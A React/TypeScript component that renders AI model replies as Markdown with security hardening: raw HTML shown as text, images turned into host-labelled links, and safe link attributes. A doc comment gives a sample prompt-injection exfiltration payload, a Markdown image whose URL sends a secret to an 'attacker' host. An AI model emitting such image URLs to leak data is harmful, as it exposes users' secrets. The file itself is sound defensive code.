import { type ComponentProps, memo, type ReactElement, useMemo } from 'react';
import ReactMarkdown, { type Components } from 'react-markdown';
import remarkGfm from 'remark-gfm';
import { CodeBlock } from './CodeBlock.tsx';

interface MdNode {
  type: string;
  value?: string;
  children?: MdNode[];
}

/** Raw HTML in model text is shown as the text it is, never interpreted. */
function remarkHtmlAsText() {
  const walk = (node: MdNode) => {
    if (node.children === undefined) return;
    node.children = node.children.map((child) =>
      child.type === 'html' ? { type: 'text', value: child.value ?? '' } : child,
    );
    for (const child of node.children) walk(child);
  };
  return (tree: MdNode) => walk(tree);
}

const remarkPlugins = [remarkGfm, remarkHtmlAsText];

/** A link out of model text leaks neither this page (opener) nor its address (referrer), and vouches for nothing. */
const externalRel = 'noopener noreferrer nofollow';

/**
 * An image in model text is never fetched: a prompt-injected reply could put data in its URL
 * (`![x](https://attacker/?d=secret)`) and an `<img>` sends it the moment it renders. It becomes a
 * link the person can choose to open, naming its host so they see where it points.
 */
function ImageLink({ src, alt }: { src: string; alt: string }) {
  const label = alt.trim() === '' ? 'image' : alt;
  if (src === '') return <span className="md-image-link">Image: {label}</span>;
  let where = src;
  try {
    where = new URL(src, document.baseURI).host || src;
  } catch {
    // Not a URL the browser can parse: show it as written.
  }
  return (
    <a className="md-image-link" href={src} target="_blank" rel={externalRel} title={src}>
      Image: {label} ({where})
    </a>
  );
}

/**
 * Model text as markdown (GFM tables, lists, code), rendered to React elements; no HTML string is
 * ever injected. While `streaming`, a code block is highlighted only once its closing fence arrived.
 */
export const Markdown = memo(function Markdown({ text, streaming }: { text: string; streaming: boolean }) {
  const components = useMemo<Components>(
    () => ({
      pre({ node, children }) {
        const code = (Array.isArray(children) ? children[0] : children) as ReactElement<ComponentProps<'code'>>;
        const className = code?.props?.className ?? '';
        const language = /language-([\w+#.-]+)/.exec(className)?.[1] ?? '';
        const source = String(code?.props?.children ?? '').replace(/\n$/, '');
        const start = node?.position?.start.offset ?? 0;
        const end = node?.position?.end.offset ?? text.length;
        const raw = text.slice(start, end).trimEnd();
        const closed = !streaming || end < text.length || /\n(```+|~~~+)$/.test(raw);
        return <CodeBlock code={source} language={language} complete={closed} />;
      },
      table({ children }) {
        return (
          <div className="table-wrap">
            <table>{children}</table>
          </div>
        );
      },
      a({ href, children }) {
        // react-markdown's urlTransform empties `javascript:`/`vbscript:`/`data:` hrefs; an empty href would
        // still be a link back to this page, so the text is shown without one.
        if (href === undefined || href === '') return <span className="md-inert-link">{children}</span>;
        return (
          <a href={href} target="_blank" rel={externalRel}>
            {children}
          </a>
        );
      },
      img({ src, alt }) {
        return <ImageLink src={typeof src === 'string' ? src : ''} alt={alt ?? ''} />;
      },
    }),
    [text, streaming],
  );
  return (
    <div className={`markdown${streaming ? ' streaming-caret' : ''}`}>
      <ReactMarkdown remarkPlugins={remarkPlugins} components={components}>
        {text}
      </ReactMarkdown>
    </div>
  );
});
